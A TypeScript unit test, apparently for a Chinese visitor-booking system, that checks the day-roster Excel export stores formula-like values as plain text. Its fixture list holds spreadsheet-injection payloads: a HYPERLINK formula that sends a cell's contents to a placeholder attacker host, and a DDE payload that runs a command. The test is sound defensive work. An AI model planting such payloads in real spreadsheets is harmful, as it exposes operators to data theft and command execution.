// Text stays text in the day roster an operator downloads and opens in Excel/WPS: a cell that
// starts with = + - @ (a visitor's name, an operator's session name) is stored as a string, never
// as a formula such as =HYPERLINK(…) that the spreadsheet would evaluate.
import ExcelJS from 'exceljs'
import type { RosterRow } from '../contracts/ops'
import { rosterWorkbook } from './roster'

const row = (over: Partial<RosterRow>): RosterRow => ({
  bookingId: 'b-1',
  day: '2026-12-08',
  shortCode: 'ABCD2345',
  sessionName: '上午场',
  start: '09:00',
  end: '12:00',
  name: '张三',
  idType: '居民身份证',
  idMasked: '2102**********123X',
  status: 'confirmed',
  statusText: '待参观',
  ...over,
})

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '=1+2']

test('cells that look like formulas are written as text, exactly as entered', async () => {
  const rows = FORMULAS.map((f, i) => row({ bookingId: f, sessionName: f, name: f, idMasked: `${i}`, status: 'cancelled', cancelReason: f }))
  const file = await rosterWorkbook('2026-12-08', rows)

  const book = new ExcelJS.Workbook()
  await book.xlsx.load(file as unknown as ArrayBuffer)
  const sheet = book.worksheets[0]
  // A cell written as a formula would read back as ValueType.Formula (with <f> in the sheet's XML).
  FORMULAS.forEach((f, i) => {
    const r = sheet.getRow(i + 2)
    // 场次, 姓名, 取消原因, 预约编号
    for (const col of [2, 4, 9, 10]) {
      expect(r.getCell(col).type).toBe(ExcelJS.ValueType.String)
      expect(r.getCell(col).value).toBe(f)
    }
  })
})
